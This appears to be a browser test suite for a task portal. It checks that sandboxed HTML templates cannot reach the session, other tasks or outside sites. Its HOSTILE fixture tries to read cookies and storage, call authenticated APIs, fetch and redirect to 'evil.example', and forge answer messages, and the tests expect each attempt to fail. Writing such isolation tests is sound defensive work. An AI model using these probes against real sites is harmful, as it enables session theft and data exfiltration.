"""A template can do nothing but show its task and hand in its answer."""

import json

import pytest
from playwright.sync_api import expect

from groundtruth.service.portal import PREFIX

pytestmark = pytest.mark.browser

FRAME = "#stage iframe:not(.coming)"
# Each attempt writes what came of it; an exception is what we want to see.
HOSTILE = """<!doctype html><html lang="en"><head><title>Task</title></head><body><pre id="results"></pre><script>
const results = {};
const attempt = async (name, work) => {
  try { results[name] = `did: ${await work()}`; } catch (error) { results[name] = `refused: ${error.name}`; }
};
(async () => {
  await attempt("parent", () => parent.document.title);
  await attempt("storage", () => localStorage.length);
  await attempt("cookie", () => document.cookie);
  await attempt("origin", () => { if (origin === "null") throw new Error(); return origin; });
  await attempt("jobs", async () => (await fetch("PREFIX/api/jobs", { credentials: "include" })).status);
  await attempt("next", async () => (await fetch("PREFIX/api/jobs/isolation/next", {
    method: "POST", credentials: "include", mode: "no-cors", body: "{}" })).type);
  await attempt("elsewhere", async () => (await fetch("https://evil.example/?q=1")).status);
  await attempt("top", () => { top.location.href = "https://evil.example/"; return top.location.href; });
  document.querySelector("#results").textContent = JSON.stringify(results);
})();
</script></body></html>""".replace("PREFIX", PREFIX)


@pytest.fixture
def open_hostile(portal, sign_in):
    def open_hostile(name: str, template: str):
        portal.job(name, template=template, team=f"team-{name}", inputs=[{"source": "x"}, {"source": "y"}])
        page = sign_in(f"Ada of {name}", f"team-{name}")
        page.goto(f"{portal.address}{PREFIX}/tasks/{name}")
        page.locator(FRAME).wait_for()
        return page

    return open_hostile


def test_a_template_reaches_neither_the_session_nor_other_tasks_nor_other_sites(open_hostile):
    page = open_hostile("isolation", HOSTILE)
    shown = page.frame_locator(FRAME).locator("#results")
    expect(shown).to_contain_text("top")
    results = json.loads(shown.inner_text())
    # A request that reads nothing may leave; it carries no session, and the portal refuses it (test_refusals).
    assert results.pop("next") in {"did: opaque", "refused: TypeError"}
    assert {name: said.partition(":")[0] for name, said in results.items()} == dict.fromkeys(results, "refused")
    assert page.url.endswith("/tasks/isolation")
    expect(page.get_by_role("button", name="Decline")).to_be_enabled()


def test_a_task_that_leads_its_frame_elsewhere_gets_nowhere(open_hostile):
    page = open_hostile("wandering", "<p>Here</p><script>location.href = 'https://evil.example/';</script>")
    page.wait_for_timeout(500)
    assert not any("evil.example" in frame.url for frame in page.frames)


def test_only_the_tasks_own_frame_can_hand_in_an_answer(portal, open_hostile):
    page = open_hostile(
        "forged",
        "<p>Here</p><iframe srcdoc=\"<script>top.postMessage({type: 'groundtruth-answer', answer: {a: 1}}, '*')</script>\"></iframe>",
    )
    page.evaluate("window.postMessage({type: 'groundtruth-answer', answer: {total: '1'}}, '*')")
    page.wait_for_timeout(500)
    assert portal.answers("forged") == []
    expect(page.get_by_role("button", name="Decline")).to_be_enabled()


def test_a_template_with_scripts_loops_and_buttons_of_its_own_works(portal, open_hostile):
    template = """<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
    {% capture heading %}Document {{ task.input.source }}{% endcapture %}
    <crowd-form><h1>{{ heading }}</h1>
      {% assign fields = "net,tax" | split: "," %}{% for field in fields %}<label>{{ field }} <input name="{{ field }}"></label>{% endfor %}
      <crowd-button form-action="submit">Hand in</crowd-button>
    </crowd-form>
    <script>document.querySelector('crowd-form').onsubmit = (event) => {
      if (!document.querySelector('input').value) { event.preventDefault(); document.querySelector('h1').textContent = 'Net is missing'; }
    };</script>"""
    page = open_hostile("own-shapes", template)
    frame = page.frame_locator(FRAME)
    frame.get_by_role("button", name="Hand in").click()
    expect(frame.get_by_role("heading", name="Net is missing")).to_be_visible()
    frame.get_by_label("net").fill("100")
    frame.get_by_role("button", name="Hand in").click()
    expect(frame.get_by_role("heading", name="Document y")).to_be_visible()
    assert [answer for _, _, answer in portal.answers("own-shapes")] == [{"net": "100"}]
